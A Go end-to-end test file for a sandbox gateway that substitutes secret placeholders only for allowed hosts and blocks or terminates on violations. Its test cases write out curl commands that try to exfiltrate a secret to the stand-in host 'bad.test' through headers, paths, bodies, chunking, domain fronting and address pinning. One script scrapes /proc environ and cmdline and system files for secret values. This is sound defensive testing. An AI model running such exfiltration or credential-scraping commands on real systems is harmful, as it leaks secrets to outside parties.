//go:build e2e

package e2e

import (
	"bytes"
	"crypto/tls"
	"errors"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/gomsb/gomsb/internal/launch"
	mitm "github.com/gomsb/gomsb/netstack/tls"
	msb "github.com/gomsb/gomsb/sdk"
)

// sesame is the value of the secrets of the tests. rotated is what becomes of it.
const sesame, rotated = "s3same-0pen-4Qz", "s3same-0ther-7Kx"

// TestSecrets is about secrets that a guest uses but does not see, in the small Internet
// of TestNetwork.
func TestSecrets(t *testing.T) {
	if !inNameSpace(t) {
		return
	}
	v := newVault(t)
	sb := v.guest(t, msb.ViolationActionBlockAndLog)
	t.Run("Substitution", func(t *testing.T) { v.testSubstitution(t, sb) })
	t.Run("WrongHost", func(t *testing.T) { v.testWrongHost(t, sb) })
	t.Run("Update", func(t *testing.T) { v.testUpdate(t, sb) })
	t.Run("Nowhere", func(t *testing.T) { v.testNowhere(t, sb) })
	t.Run("Terminate", v.testTerminate)
}

// vault is a world whose servers remember what they were sent.
type vault struct {
	*world
	trusted string // file with the authority of the servers

	mu       sync.Mutex
	requests []string // protected by mu
}

func newVault(t *testing.T) *vault {
	v := &vault{world: newWorld(t), trusted: filepath.Join(t.TempDir(), "world.pem")}
	a, err := mitm.PersistedAuthority(t.Context(), t.TempDir())
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(v.trusted, a.PEM(), 0o644))
	i, err := mitm.New(mitm.Config{Authority: a})
	require.NoError(t, err)
	for addr, by := range map[string]*tls.Config{"[::]:443": i.Guest(), "[::]:80": nil} {
		l, err := net.Listen("tcp", addr)
		require.NoError(t, err)
		if by != nil {
			l = tls.NewListener(l, by)
		}
		s := &http.Server{Handler: v}
		go func() { _ = s.Serve(l) }()
		t.Cleanup(func() { _ = s.Close() })
	}
	return v
}

// ServeHTTP does not say what it got: the guest would see it.
func (v *vault) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	user, password, _ := r.BasicAuth()
	v.mu.Lock()
	defer v.mu.Unlock()
	v.requests = append(v.requests, strings.Join([]string{r.Host, r.RequestURI, r.Header.Get("X-Key"), user + ":" + password, string(body)}, "|"))
	_, _ = io.WriteString(w, "ok\n")
}

// got is what the servers were sent since the last call.
func (v *vault) got() []string {
	v.mu.Lock()
	defer v.mu.Unlock()
	list := v.requests
	v.requests = nil
	return list
}

// guest is a sandbox with the secret KEY for TLS and PLAIN for all of www.good.test.
func (v *vault) guest(t *testing.T, on msb.ViolationAction) *msb.Sandbox {
	n := msb.NetworkPolicy.AllowAll()
	n.TLS, n.OnSecretViolation = &msb.TLSConfig{UpstreamCACerts: []string{v.trusted}}, on
	no := false
	return v.sandbox(t, n, msb.WithSecrets(
		msb.Secret.Env("KEY", sesame, msb.SecretEnvOptions{
			AllowHosts: []string{"www.good.test"}, Inject: &msb.SecretInjection{Headers: true, BasicAuth: true, QueryParams: true, Body: true},
		}),
		msb.Secret.Env("PLAIN", sesame, msb.SecretEnvOptions{AllowHostPatterns: []string{"*.good.test"}, RequireTLS: &no}),
	))
}

// try asks for something, get until it gets it: a guest that is emulated on a busy machine
// may be too slow for a handshake.
const (
	try = "curl -4 -sS --max-time 200 "
	get = try + "--retry 5 --retry-all-errors --retry-delay 1 "
)

// refused runs a script whose request the gateway must refuse, and no server must see.
func (v *vault) refused(t *testing.T, sb *msb.Sandbox, script string) {
	t.Helper()
	for range 5 {
		before := refusals(t, sb.Name())
		v.fails(t, sb, script)
		assert.Empty(t, v.got(), script)
		if refusals(t, sb.Name()) > before {
			return
		}
	}
	assert.Fail(t, "no refusal is logged", script)
}

// refusals counts in the log what was refused for the sake of secrets.
func refusals(t *testing.T, name string) int {
	log := readLog(t, name)
	return strings.Count(log, "secret violation: placeholder detected for disallowed host") + strings.Count(log, "a request cannot be carried with secrets")
}

func (v *vault) testSubstitution(t *testing.T, sb *msb.Sandbox) {
	assert.Equal(t, "$MSB_KEY $MSB_PLAIN", v.succeeds(t, sb, "echo $KEY $PLAIN"))
	v.succeeds(t, sb, get+`-H "X-Key: Bearer $KEY" -u "me:$KEY" "https://www.good.test/p/$KEY?k=$KEY"`)
	assert.Equal(t, []string{"www.good.test|/p/$MSB_KEY?k=" + sesame + "|Bearer " + sesame + "|me:" + sesame + "|"}, v.got())
	v.succeeds(t, sb, get+`-d "k=$KEY&l" https://www.good.test/ && `+get+`-H 'Transfer-Encoding: chunked' -d "k=$KEY&l" https://www.good.test/`)
	form := "www.good.test|/||:|k=" + sesame + "&l"
	assert.Equal(t, []string{form, form}, v.got())

	v.succeeds(t, sb, `head -c 3000000 /dev/zero | tr '\0' x > /tmp/big; printf %s "$KEY" >> /tmp/big; `+get+`--data-binary @/tmp/big https://www.good.test/`)
	big := v.got()
	require.Len(t, big, 1)
	assert.True(t, strings.HasSuffix(big[0], "xxx"+sesame), "a large body is rewritten to its end")

	v.succeeds(t, sb, get+`-H "X-Key: $KEY $PLAIN" http://www.good.test/`)
	assert.Equal(t, []string{"www.good.test|/|$MSB_KEY " + sesame + "|:|"}, v.got(), "without TLS only what is meant for it")
}

func (v *vault) testWrongHost(t *testing.T, sb *msb.Sandbox) {
	for _, script := range map[string]string{
		"header":   `-H "X-Key: $KEY" https://bad.test/`,
		"path":     `"https://bad.test/$KEY"`,
		"encoded":  `"https://bad.test/?k=%24MSB_KEY"`,
		"basic":    `-u "me:$KEY" https://bad.test/`,
		"body":     `-d "k=$KEY" https://bad.test/`,
		"chunks":   `-H 'Transfer-Encoding: chunked' -d "k=$KEY" https://bad.test/`,
		"upgrade":  `-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H "X-Key: $KEY" https://bad.test/`,
		"no TLS":   `-H "X-Key: $PLAIN" http://bad.test/`,
		"fronting": `-H "X-Key: $KEY" -H "Host: bad.test" https://www.good.test/`,
		"address":  `-H "X-Key: $KEY" --connect-to www.good.test:443:` + private4 + `:443 https://www.good.test/`,
		"nobody's": `-H "X-Key: $PLAIN" -H "Host: www.good.test" http://` + private4 + `/`,
	} {
		v.refused(t, sb, try+script)
	}
	v.succeeds(t, sb, get+"https://bad.test/")
	assert.Equal(t, []string{"bad.test|/||:|"}, v.got(), "without a placeholder it is like any host")
	assert.Contains(t, readLog(t, sb.Name()), "secret_env_var=KEY")
}

func readLog(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(os.Getenv("MSB_HOME"), "sandboxes", name, "logs", "runtime.log"))
	require.NoError(t, err)
	return string(b)
}

// testUpdate changes a secret by the control socket.
func (v *vault) testUpdate(t *testing.T, sb *msb.Sandbox) {
	agent, err := launch.AgentSocket(homePath("run"), sb.Name())
	require.NoError(t, err)
	ask := func(line string) {
		c, err := net.Dial("unix", launch.ControlSocket(agent))
		require.NoError(t, err)
		_, err = io.WriteString(c, line+"\n")
		require.NoError(t, err)
		answer, err := io.ReadAll(c)
		require.NoError(t, err)
		assert.Equal(t, `{"ok":true}`, strings.TrimSpace(string(answer)))
		_ = c.Close()
	}
	request := `-H "X-Key: $KEY" https://www.good.test/`
	ask(`{"op":"secrets_update","changes":[{"change":"rotate","name":"KEY","value":"` + rotated + `"}]}`)
	v.succeeds(t, sb, get+request)
	assert.Equal(t, []string{"www.good.test|/|" + rotated + "|:|"}, v.got())
	ask(`{"op":"secrets_update","changes":[{"change":"set_allowed_hosts","name":"KEY","hosts":["bad.test"]}]}`)
	v.refused(t, sb, try+request)
	ask(`{"op":"secrets_update","changes":[{"change":"remove","name":"KEY"}]}`)
	v.succeeds(t, sb, get+request)
	assert.Equal(t, []string{"www.good.test|/|$MSB_KEY|:|"}, v.got(), "nobody knows it any more")
}

// testNowhere: the values are in no file, no argument, no environment, on neither side.
func (v *vault) testNowhere(t *testing.T, sb *msb.Sandbox) {
	look := `cat /proc/*/environ /proc/*/cmdline /proc/cmdline /proc/mounts 2>/dev/null | tr '\0' '\n' > /tmp/seen; env >> /tmp/seen
find / -xdev -type f -size -2000k -newer /proc/version 2>/dev/null | head -1000 | xargs cat 2>/dev/null >> /tmp/seen
find /.msb /run /etc -type f -exec cat {} + >> /tmp/seen 2>/dev/null
wc -c < /tmp/seen; grep -a -c 's3[s]ame-0' /tmp/seen`
	out, _ := v.run(t, sb, look)
	assert.True(t, strings.HasSuffix(out, "\n0"), "%s", out)
	home := os.Getenv("MSB_HOME")
	for _, dir := range []string{filepath.Join(home, "sandboxes", sb.Name()), filepath.Join(home, "db"), filepath.Join(home, "run"), filepath.Join(home, "logs")} {
		assertNoValue(t, dir)
	}
	arguments, err := filepath.Glob("/proc/[0-9]*/cmdline")
	require.NoError(t, err)
	for _, path := range arguments {
		for _, p := range []string{path, filepath.Join(filepath.Dir(path), "environ")} {
			b, _ := os.ReadFile(p) // its process may have ended
			assert.False(t, hasValue(b), p)
		}
	}
}

func hasValue(b []byte) bool {
	return bytes.Contains(b, []byte(sesame)) || bytes.Contains(b, []byte(rotated))
}

// assertNoValue looks into all files of a directory, as far as they are not holes.
func assertNoValue(t *testing.T, dir string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if errors.Is(err, fs.ErrNotExist) || err == nil && !d.Type().IsRegular() {
			return nil
		}
		if err != nil {
			return err
		}
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		defer func() { _ = f.Close() }()
		for at := int64(0); ; {
			from, err := unix.Seek(int(f.Fd()), at, unix.SEEK_DATA)
			if err != nil {
				return nil // no more data
			}
			if at, err = unix.Seek(int(f.Fd()), from, unix.SEEK_HOLE); err != nil {
				return err
			}
			b := make([]byte, at-from)
			if _, err := f.ReadAt(b, from); err != nil && err != io.EOF {
				return err
			}
			assert.False(t, hasValue(b), "%s at %d", path, from)
		}
	})
	require.NoError(t, err)
}

// testTerminate: a violation can end the sandbox.
func (v *vault) testTerminate(t *testing.T) {
	sb := v.guest(t, msb.ViolationActionBlockAndTerminate)
	v.succeeds(t, sb, get+`-H "X-Key: $KEY" https://www.good.test/`)
	_, _ = sb.Shell(within(t, long), get+`-H "X-Key: $KEY" https://bad.test/`) // until it is gone
	_, err := sb.WaitUntilStopped(within(t, long))
	require.NoError(t, err)
	assert.Contains(t, readLog(t, sb.Name()), "a secret's violation ends the sandbox")
	assert.Len(t, v.got(), 1)
}
